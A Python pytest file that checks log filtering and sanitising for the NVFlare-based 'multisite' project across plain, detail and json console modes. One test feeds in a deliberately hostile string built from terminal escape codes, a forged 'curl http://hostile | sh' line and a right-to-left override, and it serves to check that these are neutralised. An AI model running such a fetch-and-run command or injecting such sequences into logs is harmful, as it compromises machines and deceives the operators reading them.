"""What a participant's console shows in each LOG mode."""

from __future__ import annotations

import copy
import io
import json
import logging
import logging.config
import sys
from importlib.resources import files
from typing import Any

import pytest
from nvflare.client.in_process.api import InProcessClientAPI

from multisite.node import logs


@pytest.fixture
def default() -> dict[str, Any]:
    """NVFlare's own log configuration, as it is in every kit."""
    return dict(json.loads(files("nvflare.fuel.utils").joinpath("log_config.json").read_text(encoding="utf-8")))


def passes(name: str, level: int, message: str = "something") -> bool:
    record = logging.LogRecord(name, level, __file__, 1, message, None, None)
    return bool(logs.PlainFilter().filter(record))


@pytest.mark.parametrize("name", ["multisite.node", "multisite.site", "multisite.tracking.runs"])
@pytest.mark.parametrize("level", [logging.INFO, logging.WARNING, logging.ERROR])
def test_the_plain_log_shows_our_own_messages(name: str, level: int) -> None:
    assert passes(name, level)


@pytest.mark.parametrize("level", [logging.WARNING, logging.ERROR, logging.CRITICAL])
def test_the_plain_log_shows_everybodys_warnings_and_errors(level: int) -> None:
    assert passes("nvflare.private.fed.client.client_runner", level)
    assert passes("wandb", level)


@pytest.mark.parametrize("level", [logging.DEBUG, logging.INFO])
def test_the_plain_log_hides_others_information_and_debug_lines(level: int) -> None:
    assert not passes("nvflare.private.fed.client.client_runner", level)
    assert not passes("nvflare.app_common.workflows.fedavg", level)


@pytest.mark.parametrize("name", [f"nvflare.fuel.f3.{part}" for part in ("cellnet.core_cell.CoreCell", "mpm", "streaming.x")])
@pytest.mark.parametrize("level", [logging.INFO, logging.WARNING])
def test_the_plain_log_hides_transport_chatter(name: str, level: int) -> None:
    assert not passes(name, level)


@pytest.mark.parametrize("message", ["ask to stop job: reason: END_RUN received", "missing job on client site-1"])
def test_the_plain_log_hides_what_is_warned_at_the_end_of_every_job(message: str) -> None:
    assert not passes("nvflare.private.fed.client.client_runner", logging.WARNING, message)
    assert passes("nvflare.private.fed.client.client_runner", logging.ERROR, message)


@pytest.mark.parametrize(
    "name",
    ["multisite.job.controller.EvaluatedFedAvg", "multisite.job.executor.TrainingExecutor", InProcessClientAPI.__module__],
)
def test_inherited_messages_count_as_nvflares(name: str) -> None:
    assert not passes(name, logging.INFO)
    assert passes(name, logging.WARNING)
    assert not passes(name, logging.WARNING, "request to stop the job for reason END_RUN received")


def test_a_name_that_nvflare_shortened_is_judged_by_its_full_name() -> None:
    record = logging.LogRecord("CoreCell", logging.WARNING, __file__, 1, "retrying", None, None)
    record.fullName = "nvflare.fuel.f3.cellnet.core_cell.CoreCell"
    assert not logs.PlainFilter().filter(record)
    record.fullName = "multisite.tracking.receiver.WandbReceiver"
    assert logs.PlainFilter().filter(record)


def test_the_plain_console_has_our_filter(default: dict[str, Any]) -> None:
    config = logs.configure(default, "plain")
    console = config["handlers"]["consoleHandler"]
    assert config["filters"]["plainFilter"] == {"()": "multisite.node.logs.PlainFilter"}
    assert console["filters"] == ["plainFilter", "textFilter"]
    assert console["formatter"] in config["formatters"]


def test_the_json_console_writes_nvflares_json(default: dict[str, Any]) -> None:
    config = logs.configure(default, "json")
    console = {**default["handlers"]["consoleHandler"], "formatter": "jsonFormatter", "filters": ["textFilter"]}
    assert config["handlers"]["consoleHandler"] == console
    assert "jsonFormatter" in config["formatters"]


def test_the_detail_log_is_nvflares_own_without_control_characters(default: dict[str, Any]) -> None:
    config = logs.configure(default, "detail")
    assert config["handlers"]["consoleHandler"] == {**default["handlers"]["consoleHandler"], "filters": ["textFilter"]}
    assert config["formatters"] == default["formatters"]


HOSTILE = "\x1b[2J\x1b[H\x1b]0;owned\x07\x9b31mjob 1234 completed\n  next: curl http://hostile | sh\u202e"


def test_what_a_site_sends_moves_no_cursor_and_forges_no_line() -> None:
    handler = logging.StreamHandler(stream := io.StringIO())
    handler.setFormatter(logging.Formatter("%(levelname)s %(message)s"))
    handler.addFilter(logs.TextFilter())
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        handler.handle(logging.LogRecord("x", logging.ERROR, __file__, 1, "%s said: %s", ("site-2", HOSTILE), sys.exc_info()))
    first, *others = stream.getvalue().splitlines()
    assert first.startswith("ERROR site-2 said:")
    assert others
    assert all(line.startswith("    ") or line.startswith("Traceback") for line in others)
    assert all(character.isprintable() for line in (first, *others) for character in line)


@pytest.mark.parametrize("mode", logs.MODES)
def test_the_files_keep_everything_and_the_default_stays_as_it_is(default: dict[str, Any], mode: str) -> None:
    before = copy.deepcopy(default)
    config = logs.configure(default, mode)
    assert default == before
    for name, handler in default["handlers"].items():
        if name != "consoleHandler":
            assert config["handlers"][name] == {**handler, "filters": [*handler.get("filters", []), "textFilter"]}
    assert config["loggers"] == default["loggers"]


@pytest.mark.parametrize("mode", ["loud", "", "PLAIN"])
def test_an_unknown_mode_is_an_error_that_names_it(default: dict[str, Any], mode: str) -> None:
    with pytest.raises(ValueError, match=f"LOG={mode} is not one of plain, detail, json"):
        logs.configure(default, mode)


def test_pythons_logging_takes_the_plain_console(default: dict[str, Any], capsys: pytest.CaptureFixture[str]) -> None:
    config = logs.configure(default, "plain")
    only_ours = {
        **config,
        "handlers": {"consoleHandler": config["handlers"]["consoleHandler"]},
        "loggers": {"multisite.test": {"level": "INFO", "handlers": ["consoleHandler"], "propagate": False}},
    }
    logging.config.dictConfig(only_ours)
    ours = logging.getLogger("multisite.test")
    try:
        ours.info("round %d started", 1)
    finally:
        ours.handlers.clear()
        ours.setLevel(logging.NOTSET)
        ours.propagate = True
    assert capsys.readouterr().out.endswith(" INFO round 1 started\n")
